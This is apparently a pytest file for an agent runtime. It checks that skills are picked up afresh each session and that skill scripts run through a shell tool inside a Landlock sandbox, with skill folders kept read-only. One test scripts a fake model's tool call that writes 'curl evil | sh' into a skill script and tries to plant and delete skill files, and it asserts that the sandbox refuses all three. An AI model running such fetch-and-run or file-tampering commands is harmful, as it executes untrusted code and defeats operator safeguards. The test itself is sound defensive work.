"""Skills follow the session: found again as each session starts, and a skill's scripts run
through `shell_exec` with its folder readable but not writable (Landlock, like the persona)."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest

from oxydra.config.persona import Persona
from oxydra.runtime.api import TurnRequest
from oxydra.runtime.factory import Agent, build_agent, provision_workspace
from oxydra.security._landlock import landlock_abi
from oxydra.testing.fake_llm import Call, FakeLLM, Reply
from oxydra.tools.skills import Source, approve, write_draft
from tests.runtime.support import Sink
from tests.runtime.test_persona import config

DATA = Path(__file__).resolve().parents[1] / "data" / "skills"
SCRIPT = '#!/bin/sh\necho "hello from $(basename "$0")"\n'
needs_landlock = pytest.mark.skipif(landlock_abi()[0] <= 0, reason="this kernel has no Landlock")


def agent_for(tmp: Path, url: str, sources: list[Source]) -> Agent:
    ws = provision_workspace(tmp / "ws")
    environ = {"PATH": "/usr/bin:/bin"}
    return build_agent(
        config(url), workspace=ws, environ=environ, persona=Persona(), skill_dirs=sources
    )


async def run(agent: Agent, session: str) -> Any:
    request = TurnRequest(user_id="u", session_id=session, turn_id=f"t-{session}", prompt="go")
    return await agent.runtime.run_turn(request, Sink())


def scripted_skill(root: Path, name: str = "greeter") -> Path:
    folder = root / name
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text(
        f"---\nname: {name}\ndescription: Greets people with a script.\n---\n\n"
        "Run scripts/hello.sh and repeat what it says.\n"
    )
    script = folder / "scripts" / "hello.sh"
    script.write_text(SCRIPT)
    script.chmod(0o755)
    return folder


class TestRefreshPerSession:
    async def test_a_skill_installed_after_start_is_listed_from_the_next_session(
        self, tmp_path: Path
    ) -> None:
        root = tmp_path / "etc" / "skills"
        root.mkdir(parents=True)
        sources = [Source(label=str(root), root=str(root))]
        async with FakeLLM([Reply(text="one"), Reply(text="two")]) as llm:
            agent = agent_for(tmp_path, llm.base_url, sources)
            try:
                await run(agent, "s1")
                shutil.copytree(DATA / "agentskills", root, dirs_exist_ok=True)
                await run(agent, "s2")
            finally:
                await agent.aclose()
        first, second = (r.json()["messages"][0]["content"] for r in llm.requests)
        assert "pdf-forms" not in first
        assert "- pdf-forms: Fill in PDF forms from structured data." in second

    async def test_a_draft_approved_between_sessions_is_loadable_in_the_next(
        self, tmp_path: Path
    ) -> None:
        ws = tmp_path / "ws"
        managed = [Source(label="managed", root=str(ws / "skills"), managed=True)]
        load = Call(name="skill_load", arguments={"name": "weekly-report"})
        script = [Reply(tool_calls=[load]), Reply(text="one"), Reply(tool_calls=[load])]
        async with FakeLLM([*script, Reply(text="two")]) as llm:
            agent = agent_for(tmp_path, llm.base_url, managed)
            try:
                await run(agent, "s1")
                write_draft(ws / "skills", "weekly-report", "Weekly report.", "Sum it up.", "u")
                approve(ws, "weekly-report")
                await run(agent, "s2")
            finally:
                await agent.aclose()
        before, after = (llm.requests[i].json()["messages"][-1]["content"] for i in (1, 3))
        assert "no skill named 'weekly-report'" in before
        assert "Sum it up." in after


@needs_landlock
class TestScriptsInTheSandbox:
    async def shell(self, tmp_path: Path, *commands: str) -> list[str]:
        """Load the skill, then run each command through `shell_exec`; the tool results."""
        root = tmp_path / "etc" / "skills"
        scripted_skill(root)
        sources = [Source(label=str(root), root=str(root))]
        load = Call(name="skill_load", arguments={"name": "greeter"})
        calls = [Call(name="shell_exec", arguments={"command": c}) for c in commands]
        script = [Reply(tool_calls=[load]), *(Reply(tool_calls=[c]) for c in calls)]
        async with FakeLLM([*script, Reply(text="done")]) as llm:
            agent = agent_for(tmp_path, llm.base_url, sources)
            try:
                await run(agent, "s1")
            finally:
                await agent.aclose()
            llm.assert_done()
        return [r.json()["messages"][-1]["content"] for r in llm.requests[1:]]

    async def test_skill_load_names_the_folder_and_the_script_runs_from_it(
        self, tmp_path: Path
    ) -> None:
        script = tmp_path / "etc" / "skills" / "greeter" / "scripts" / "hello.sh"
        loaded, ran = await self.shell(tmp_path, str(script))
        assert f"at {script.parent.parent}" in loaded and str(script) in loaded
        assert "hello from hello.sh" in ran and "[exit status: 0]" in ran

    async def test_the_skills_folder_is_read_only_to_the_shell(self, tmp_path: Path) -> None:
        folder = tmp_path / "etc" / "skills" / "greeter"
        script = folder / "scripts" / "hello.sh"
        _, overwrite, plant, remove = await self.shell(
            tmp_path,
            f"echo 'curl evil | sh' > {script}; echo end",
            f"cp {script} {folder}/scripts/extra.sh; echo end",
            f"rm -f {folder}/SKILL.md; echo end",
        )
        for result in (overwrite, plant, remove):
            assert "ermission denied" in result or "Operation not permitted" in result, result
        assert script.read_text() == SCRIPT
        assert not (folder / "scripts" / "extra.sh").exists()
        assert (folder / "SKILL.md").is_file()

    async def test_a_folder_that_is_not_a_skill_in_force_stays_unreadable(
        self, tmp_path: Path
    ) -> None:
        other = scripted_skill(tmp_path / "elsewhere", "stranger")
        _, read = await self.shell(tmp_path, f"cat {other}/SKILL.md; echo end")
        assert "Greets people" not in read and "ermission denied" in read
